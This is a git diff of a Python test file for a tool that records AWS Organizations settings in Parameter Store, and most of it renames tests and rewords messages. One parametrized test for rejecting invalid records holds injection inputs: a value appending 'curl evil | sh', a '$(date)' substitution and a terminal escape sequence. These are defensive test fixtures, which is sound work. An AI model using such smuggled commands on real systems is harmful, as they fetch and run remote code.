@@ -1,4 +1,4 @@
-"""What `ensure.py settings` records in Parameter Store, and what it makes of records that others wrote."""
+"""Records of `ensure.py settings` in Parameter Store, and records of other installations."""
 
 from __future__ import annotations
 
@@ -17,8 +17,8 @@ from unit.cases import (
     SERVICE_LINKED_ROLE,
     STACK_SETS_ACCESS,
     TRUSTED_ACCESS,
+    move_account,
     parent,
-    place,
     record,
     recorded,
     register,
@@ -51,10 +51,10 @@ def _observed(run: Run, key: str, *, subject: str = "", value: str = "") -> dict
     return observed[key]
 
 
-# What a plan is told
+# What a plan reads
 
 
-def test_a_complete_change_keeps_its_words(aws: Sandbox, run: Run) -> None:
+def test_a_complete_change_is_recorded(aws: Sandbox, run: Run) -> None:
     run("ensure", "settings", query=settings_query(TRUSTED_ACCESS.desired(aws, change="disabled -> enabled (T1)")))
     assert _observed(run, TRUSTED_ACCESS.key) == {
         "value": "enabled",
@@ -76,7 +76,7 @@ def test_an_interrupted_change_has_none(aws: Sandbox, run: Run) -> None:
     assert (placed["value"], placed["previous"], placed["change"]) == (root_id(aws), root_id(aws), "")
 
 
-def test_without_a_state_the_record_knows_what_was_before(aws: Sandbox, run: Run) -> None:
+def test_the_record_has_the_previous_value(aws: Sandbox, run: Run) -> None:
     run("ensure", "settings", query=settings_query(ACCOUNT_PLACEMENT.desired(aws)))
     observed = _observed(run, _PLACEMENT, subject=ADMINISTRATOR)
     assert (observed["value"], observed["previous"]) == (unit_id(aws, "SystemsManager"), root_id(aws))
@@ -99,7 +99,7 @@ def test_another_subject_is_another_setting(aws: Sandbox, run: Run) -> None:
 # Several installations
 
 
-def test_what_another_installation_made_is_shared_until_the_last_one_goes(aws: Sandbox, run: Run) -> None:
+def test_a_shared_setting_is_restored_by_the_last_installation(aws: Sandbox, run: Run) -> None:
     set_trusted(aws, "enabled")
     record(aws, {TRUSTED_ACCESS.key: _entry(value="enabled", previous="disabled")}, name=_OTHER_INSTALLATION)
     observed = _observed(run, TRUSTED_ACCESS.key)
@@ -110,7 +110,7 @@ def test_what_another_installation_made_is_shared_until_the_last_one_goes(aws: S
     run("ensure", "settings", query=query)
     outcome = run("ensure", "settings", query={**query, "action": "restore"})
     assert outcome.stdout == (
-        f"{TRUSTED_ACCESS.key}: left as it is, because the installation another has it as well.\n"
+        f"{TRUSTED_ACCESS.key}: left as it is, because the installation another uses it as well.\n"
     )
     assert trusted(aws) == "enabled"
 
@@ -120,7 +120,7 @@ def test_what_another_installation_made_is_shared_until_the_last_one_goes(aws: S
     assert trusted(aws) == "disabled"
 
 
-def test_what_another_installation_changed_back_is_not_its_any_more(aws: Sandbox, run: Run) -> None:
+def test_reverted_settings_of_another_installation(aws: Sandbox, run: Run) -> None:
     record(aws, {TRUSTED_ACCESS.key: _entry(value="enabled", reverted=True)}, name=_OTHER_INSTALLATION)
     assert _observed(run, TRUSTED_ACCESS.key)["others"] == []
 
@@ -138,7 +138,7 @@ def test_what_another_installation_changed_back_is_not_its_any_more(aws: Sandbox
         '{"schema": 1, "settings": {"trusted-access/x": {"value": "enabled"}}}',
         json.dumps({"schema": 1, "settings": {"time-travel/x": _entry()}}),
         json.dumps({"schema": 1, "settings": {"trusted-access/x": _entry(value=1)}}),
-        # What people would be shown, or told to paste.
+        # Text that would be shown or pasted.
         json.dumps({"schema": 1, "settings": {"trusted-access/\x1b[2J": _entry(value="enabled", previous="disabled")}}),
         json.dumps({"schema": 1, "settings": {_PLACEMENT: _entry(value="r-sbox", previous="r-sbox; curl evil | sh")}}),
         json.dumps({"schema": 1, "settings": {_PLACEMENT: _entry(value="r-sbox", subject="$(date)")}}),
@@ -146,7 +146,7 @@ def test_what_another_installation_changed_back_is_not_its_any_more(aws: Sandbox
         json.dumps({"schema": 1, "settings": {DELEGATED_ADMINISTRATOR.key: _entry(value="none", previous="abc")}}),
     ],
 )
-def test_what_this_version_did_not_write_is_no_record(aws: Sandbox, run: Run, value: str) -> None:
+def test_invalid_records_are_ignored(aws: Sandbox, run: Run, value: str) -> None:
     aws.client("ssm").put_parameter(Name=RECORD, Value=value, Type="String")
     set_trusted(aws, "enabled")
     assert _observed(run, TRUSTED_ACCESS.key)["change"] == ""
@@ -166,11 +166,11 @@ def test_the_state_decides_where_an_account_goes_back_to(aws: Sandbox, run: Run)
 
 def test_a_record_alone_moves_no_account_on_destroy(aws: Sandbox, run: Run) -> None:
     unit, elsewhere = unit_id(aws, "SystemsManager"), unit_id(aws, "Elsewhere")
-    place(aws, unit)
+    move_account(aws, unit)
     record(aws, {_PLACEMENT: _entry(subject=ADMINISTRATOR, value=unit, previous=elsewhere)})
     outcome = run("ensure", "settings", query=settings_query(action="restore"))
     assert outcome.status == 0
-    assert f"left as it is, because only {RECORD} says that it was in {elsewhere}" in outcome.stdout
+    assert f"left as it is, because only {RECORD} records that it was in {elsewhere}" in outcome.stdout
     assert f"aws organizations move-account --account-id {ADMINISTRATOR} --source-parent-id {unit}" in outcome.stdout
     assert parent(aws) == unit
 
@@ -178,7 +178,7 @@ def test_a_record_alone_moves_no_account_on_destroy(aws: Sandbox, run: Run) -> N
 # Changing back
 
 
-def test_what_could_not_be_changed_back_is_named_and_the_rest_goes_on(aws: Sandbox, run: Run) -> None:
+def test_failures_of_restore_are_reported_and_the_rest_is_restored(aws: Sandbox, run: Run) -> None:
     set_trusted(aws, "enabled")
     cases = (TRUSTED_ACCESS, STACK_SETS_ACCESS, SERVICE_LINKED_ROLE, ACCOUNT_PLACEMENT, DELEGATED_ADMINISTRATOR)
     query = settings_query(*(case.desired(aws) for case in cases))
@@ -187,7 +187,7 @@ def test_what_could_not_be_changed_back_is_named_and_the_rest_goes_on(aws: Sandb
     outcome = run("ensure", "settings", query={**query, "action": "restore"})
     assert (outcome.status, outcome.stdout) == (1, "")
     assert "organizations:DeregisterDelegatedAdministrator failed" in outcome.stderr
-    assert f"{TRUSTED_ACCESS.key}: stays until the rest is changed back." in outcome.stderr
+    assert f"{TRUSTED_ACCESS.key}: retained until the other settings are restored." in outcome.stderr
     assert parent(aws) == root_id(aws), "this does not hang on it"
     assert trusted(aws) == "enabled"
     assert set(recorded(aws)) == {TRUSTED_ACCESS.key, STACK_SETS_ACCESS.key, DELEGATED_ADMINISTRATOR.key}
@@ -197,25 +197,25 @@ def test_what_could_not_be_changed_back_is_named_and_the_rest_goes_on(aws: Sandb
     assert (registered(aws), trusted(aws), recorded(aws)) == ("none", "disabled", {})
 
 
-def test_where_the_former_unit_is_gone_the_account_goes_to_the_root(aws: Sandbox, run: Run) -> None:
-    former = unit_id(aws, "Elsewhere")
-    place(aws, former)
-    query = settings_query(ACCOUNT_PLACEMENT.desired(aws, previous=former))
+def test_an_account_of_a_deleted_unit_moves_to_the_root(aws: Sandbox, run: Run) -> None:
+    previous_unit = unit_id(aws, "Elsewhere")
+    move_account(aws, previous_unit)
+    query = settings_query(ACCOUNT_PLACEMENT.desired(aws, previous=previous_unit))
     run("ensure", "settings", query=query)
-    aws.client("organizations").delete_organizational_unit(OrganizationalUnitId=former)
+    aws.client("organizations").delete_organizational_unit(OrganizationalUnitId=previous_unit)
     outcome = run("ensure", "settings", query={**query, "action": "restore"})
     assert outcome.status == 0
     unit = unit_id(aws, "SystemsManager")
-    assert outcome.stdout.endswith(f": {root_id(aws)} again (was {unit}) ({former} is gone).\n")
+    assert outcome.stdout.endswith(f": {root_id(aws)} again (was {unit}) ({previous_unit} is gone).\n")
     assert parent(aws) == root_id(aws)
 
 
-def test_an_account_that_left_the_organization_is_no_obstacle(aws: Sandbox, run: Run) -> None:
-    gone = ACCOUNT_PLACEMENT.desired(aws, subject="999999999999")
-    outcome = run("ensure", "settings", query=settings_query(gone, action="restore"))
+def test_an_account_that_left_the_organization(aws: Sandbox, run: Run) -> None:
+    missing = ACCOUNT_PLACEMENT.desired(aws, subject="999999999999")
+    outcome = run("ensure", "settings", query=settings_query(missing, action="restore"))
     assert (outcome.status, outcome.stderr) == (0, "")
     assert "left as it is, because it is not set and no longer ou-" in outcome.stdout
-    refused = run("ensure", "settings", query=settings_query(gone))
+    refused = run("ensure", "settings", query=settings_query(missing))
     assert refused.status == 1
     assert 'account "999999999999" cannot be placed in ou-' in refused.stderr
 
@@ -255,9 +255,7 @@ def explorer(aws: Sandbox) -> dict[str, str]:
 def test_a_sync_that_aws_would_delete_keeps_the_administrator(aws: Sandbox, run: Run, explorer: dict[str, str]) -> None:
     outcome = run("ensure", "settings", query={**explorer, **_GUARD})
     assert (outcome.status, outcome.stdout) == (1, "")
-    assert "AWS would delete the resource data syncs of the organization that it has: explorer (us-east-1)" in (
-        outcome.stderr
-    )
+    assert "AWS would delete its resource data syncs of the organization: explorer (us-east-1)" in (outcome.stderr)
     assert "Destroy the configuration of the administrator account first" in outcome.stderr
     assert registered(aws) == ADMINISTRATOR
 
@@ -266,16 +264,14 @@ def test_a_sync_that_aws_would_delete_keeps_the_administrator(aws: Sandbox, run:
     assert registered(aws) == "none"
 
 
-def test_an_account_that_cannot_be_looked_into_is_deregistered_with_a_warning(
-    aws: Sandbox, run: Run, explorer: dict[str, str]
-) -> None:
+def test_an_unreadable_account_is_deregistered_with_a_warning(aws: Sandbox, run: Run, explorer: dict[str, str]) -> None:
     outcome = run("ensure", "settings", query={**explorer, **_GUARD, "member_role_name": "Nobody"})
     assert outcome.status == 0
     assert f"Explorer's resource data syncs in account {ADMINISTRATOR} could not be listed" in outcome.stderr
     assert registered(aws) == "none"
 
 
-def test_without_a_role_nothing_is_looked_at(aws: Sandbox, run: Run, explorer: dict[str, str]) -> None:
+def test_without_a_role_nothing_is_checked(aws: Sandbox, run: Run, explorer: dict[str, str]) -> None:
     assert run("ensure", "settings", query=explorer).status == 0
     assert "AssumeRole" not in {call.operation for call in aws.calls}
     assert registered(aws) == "none"
